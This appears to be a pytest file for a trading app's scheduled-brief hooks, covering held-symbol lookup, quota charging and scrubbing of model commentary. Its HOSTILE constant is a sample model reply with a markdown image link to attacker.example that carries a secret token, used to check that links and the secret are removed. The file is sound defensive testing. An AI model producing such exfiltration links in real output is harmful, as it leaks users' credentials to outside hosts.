"""The hooks the app hands to scheduled briefs: the workspace's held symbols and a model's commentary.

Real app wiring (SmolTraderApp, its chat service, workspace store, quota and paper desk) against the local Yahoo
replay; the model is a scripted `smolagents.Model`.
"""

from __future__ import annotations

import pytest

from agents.brief_hooks import BriefHooks
from alerts.scheduler import BriefDesk
from chat.session import Session
from standins.scripted_model import ScriptedModel
from tests.harness import local_stack

pytestmark = pytest.mark.slow  # its tests take seconds in total (servers, subprocesses, workers): out of the fast loop

HOSTILE = ("AAPL is up on the day. ![x](https://attacker.example/?d=hf_briefHookSecret0123456789) "
           "Read [this](https://attacker.example) now.")
SECRET = "hf_briefHookSecret0123456789"


def make_app(tmp_path, reply, **env):
    import app

    model = ScriptedModel(default=reply)
    stack_cm = local_stack(tmp_path, HF_TOKEN=SECRET, **env)
    stack = stack_cm.__enter__()
    ui = app.SmolTraderApp(stack.settings, stack.runtime, model_factory=lambda: {"manager": model})
    return stack_cm, stack, ui, model


@pytest.fixture
def world(tmp_path):
    made = []

    def build(reply=HOSTILE, **env):
        made.append(make_app(tmp_path, reply, **env))
        return made[-1][1:]

    yield build
    for stack_cm, _, ui, _ in made:
        ui.close()
        stack_cm.__exit__(None, None, None)


def held(ui, stack) -> str:
    """A workspace that bought 2 AAPL through the chat (a marketable limit fills at any hour)."""
    workspace, _key = ui.runtime.workspaces.store.new_anonymous()
    session = Session(id="tab-1")
    session.workspace = workspace
    [card] = ui.chat.run_command(session, "/buy 2 AAPL limit 1000")
    done = ui.chat.run_command(session, f"/confirm {card.extra['ticket']['id']}")
    assert any((item.title or "").endswith((": filled", ": order placed")) for item in done), done
    return workspace


def test_a_brief_covers_held_symbols_and_carries_a_plain_scrubbed_commentary(world):
    stack, ui, model = world()
    workspace = held(ui, stack)
    hooks = BriefHooks(stack.settings, stack.runtime.desks, ui.runtime.workspaces.store, ui.chat.model_factory,
                       ui.chat.visitors.quota)
    assert hooks.positions_of(workspace) == ["AAPL"]
    service = stack.runtime.alerts
    desk = BriefDesk(service, positions_of=hooks.positions_of, commentary=hooks.commentary)
    note = service.store.notification(desk.produce(workspace))
    assert "**AAPL**" in note.body and note.data["symbols"] == ["AAPL"] and note.data["commentary"]
    commentary = note.body.split("**Commentary**", 1)[1]
    assert "AAPL is up on the day" in commentary
    assert "](" not in commentary and "![" not in commentary and SECRET not in note.body
    assert "**AAPL**" in model.seen_text() and "RSI(14)" in model.seen_text()  # it was sent the figures
    quota = ui.chat.visitors.quota
    assert quota.used_today(f"workspace:{workspace}") == 18  # 11 in + 7 out, charged to the workspace's budget
    assert quota.used_today("anonymous:all") == 18  # and to the pool all anonymous visitors share
    assert hooks.positions_of("ws_nobody") == []  # a workspace with no account holds nothing


def test_no_commentary_when_the_budget_is_spent_or_the_model_fails(world):
    stack, ui, model = world(TOKEN_BUDGET_PER_DAY=1000)
    hooks = BriefHooks(stack.settings, stack.runtime.desks, ui.runtime.workspaces.store, ui.chat.model_factory,
                       ui.chat.visitors.quota)
    assert hooks.commentary("ws_a", "**AAPL** 200.00") is None and model.calls == []  # under one commentary left

    stack, ui, model = world(TOKEN_BUDGET_ANONYMOUS_PER_DAY=1000)  # the shared anonymous pool is nearly spent too
    hooks = BriefHooks(stack.settings, stack.runtime.desks, ui.runtime.workspaces.store, ui.chat.model_factory,
                       ui.chat.visitors.quota)
    assert hooks.commentary("ws_b", "**AAPL** 200.00") is None and model.calls == []

    stack, ui, model = world(reply=RuntimeError("model down"))
    hooks = BriefHooks(stack.settings, stack.runtime.desks, ui.runtime.workspaces.store, ui.chat.model_factory,
                       ui.chat.visitors.quota)
    assert hooks.commentary("ws_a", "**AAPL** 200.00") is None and len(model.calls) == 1
